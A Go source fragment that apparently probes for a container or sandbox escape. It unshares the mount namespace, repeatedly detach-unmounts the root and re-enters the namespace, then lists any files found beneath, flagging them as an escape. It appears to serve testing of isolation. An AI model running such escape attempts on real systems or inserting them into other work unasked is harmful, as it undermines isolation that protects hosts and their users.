package main

import (
	"fmt"
	"os"
	"runtime"

	"golang.org/x/sys/unix"
)

// below takes the root away in a copy of the mount namespace and enters that anew, to see what lies below.
func below([]string) {
	runtime.LockOSThread()
	if err := unix.Unshare(unix.CLONE_FS | unix.CLONE_NEWNS); err != nil {
		fmt.Println("no mount namespace:", err)
		return
	}
	ns, err := unix.Open("/proc/thread-self/ns/mnt", unix.O_RDONLY, 0)
	if err != nil {
		fmt.Println(err)
		return
	}
	own, err := os.ReadDir("/bin")
	if err != nil || len(own) == 0 {
		fmt.Println(err)
		return
	}
	for range 8 {
		if err := unix.Unmount("/", unix.MNT_DETACH); err != nil {
			fmt.Println("unmount:", err)
		}
		if err := unix.Setns(ns, unix.CLONE_NEWNS); err != nil {
			fmt.Println("enter:", err)
			return
		}
	}
	if _, err := os.Stat("/bin"); err == nil {
		fmt.Println("the root is still there")
		return
	}
	list("")
}

// list names all files but empty directories.
func list(dir string) {
	es, err := os.ReadDir("/" + dir)
	if err != nil {
		fmt.Println(err)
	}
	for _, e := range es {
		if path := dir + "/" + e.Name(); e.IsDir() {
			fmt.Println("below:", path)
			list(path)
		} else {
			fmt.Println("ESCAPE below the root:", path)
			return
		}
	}
}
